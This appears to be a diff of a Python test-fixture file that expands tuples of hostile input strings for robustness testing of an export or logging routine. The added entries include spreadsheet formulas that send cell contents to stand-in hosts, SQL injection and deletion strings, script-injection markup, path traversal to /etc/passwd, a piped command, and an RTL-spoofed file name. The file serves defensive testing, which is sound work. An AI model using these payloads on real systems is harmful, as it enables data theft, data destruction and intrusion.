@@ -13,6 +13,25 @@ FORMULAS = (
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
     "＝1+1",
     "'=1+1",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "\n=1+1",
+    "  =1+1",
+    "\xa0=1+1",
+    '"=1+1',
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    'a",=1+1,"',
+    "a;=1+1",
+    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
+    "%0A=1+1",
+    "|calc",
 )
 QUOTES = (
     '"',
@@ -23,8 +42,26 @@ QUOTES = (
     '""""',
     "\\",
     '\\"',
+    'a"b',
+    "a'b",
+    'a""b',
+    "a`b",
+    "a,b",
+    "a;b",
+    "a\tb",
+    "\u201ca\u201d",
 )
-BREAKS = ("a\nb", "a\r\nb", "a\rb", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b")
+BREAKS = (
+    "a\nb",
+    "a\r\nb",
+    "a\rb",
+    "a\u2028b",
+    "a\u2029b",
+    "a\x0bb",
+    "a\x0cb",
+    "a\x85b",
+    "\n",
+)
 CONTROL = (
     "a\x00b",
     "\x1b[2J\x1b[31mPASS\x1b[0m",
@@ -34,6 +71,8 @@ CONTROL = (
     "FAIL\b\b\b\bPASS",
     "\x7f",
     "\x07",
+    "a\x1b[31mb",
+    "a\x07b",
 )
 UNSEEN = (
     "SN\u202e1000\u202c",
@@ -44,6 +83,15 @@ UNSEEN = (
     "SN\xad1",
     "SN\u00a01",
     "SN1\U000e0041",
+    "a\u200db",
+    "a\xadb",
+    "\ufeffabc",
+    "abc\u202egnp.exe",
+    "\u200fabc",
+    "\u2066abc\u2069",
+    "\u061cabc",
+    "\u05e9\u05dc\u05d5\u05dd",
+    "\u0645\u0631\u062d\u0628\u0627 12",
 )
 LONG = ("x" * 10_000, "é" * 10_000, "9" * 10_000)
 SQL = (
@@ -54,6 +102,8 @@ SQL = (
     "%",
     "_",
     "SN*?[a-z]",
+    "1); DELETE FROM row",
+    '" OR 1=1 --',
 )
 MARKUP = (
     "<script>alert(1)</script>",
@@ -64,6 +114,12 @@ MARKUP = (
     "&lt;&amp;&#0;",
     "[bold red]PASS[/bold red]",
     "{{7*7}}",
+    "<img src=x onerror=alert(1)>",
+    "&lt;b&gt;",
+    "</td></tr>",
+    "${7*7}",
+    "{% raw %}",
+    "_x0041_",
 )
 PATHS = (
     "../../etc/passwd",
@@ -73,6 +129,9 @@ PATHS = (
     "%2e%2e%2f",
     "CON",
     "-rf",
+    "..\\..\\x",
+    "a/b",
+    ".",
 )
 FORMATS = (
     "%s%n%x",
@@ -83,8 +142,52 @@ FORMATS = (
     "%(x)s",
 )
 SURROGATES = ("\ud800", "SN\udcff1", "\udfff\ud800")
-NUMBERS = ("NaN", "Infinity", "-0", "1e309", "0x1F", "1_000", "None", "null", "true", "١٢٣")
-LOOKALIKES = ("😀", "👩‍👩‍👧", "ΡASS", "РASS", "ＳＮ１", "Å", "A\u030a", "ſ", "İ", "\U0001d54a")
+NUMBERS = (
+    "NaN",
+    "Infinity",
+    "-0",
+    "1e309",
+    "0x1F",
+    "1_000",
+    "None",
+    "null",
+    "true",
+    "١٢٣",
+    "000123",
+    "0",
+    "00",
+    "12345678901234567890",
+    "1E5",
+    "1-2",
+    "3/4",
+    "12:30",
+    "1,5",
+    "TRUE",
+    "MAR1",
+    "Sept 12",
+    "007 ",
+    "1e400",
+    "#N/A",
+    "#REF!",
+)
+LOOKALIKES = (
+    "😀",
+    "👩‍👩‍👧",
+    "ΡASS",
+    "РASS",
+    "ＳＮ１",
+    "Å",
+    "A\u030a",
+    "ſ",
+    "İ",
+    "\U0001d54a",
+    "\u6f22\u5b57",
+    "\U0001f642",
+    "e\u0301",
+    "\ufb01",
+    "\U000e0041x",
+    "\ufffd",
+)
 SPACES = ("", " ", "  SN1  ", "SN  1")
 
 HOSTILE: dict[str, tuple[str, ...]] = {
@@ -104,3 +207,5 @@ HOSTILE: dict[str, tuple[str, ...]] = {
     "spaces": SPACES,
 }
 ALL = tuple(text for texts in HOSTILE.values() for text in texts)
+STORABLE = tuple(text for text in ALL if text not in SURROGATES)
+"""What a log can hold: the others are no Unicode."""
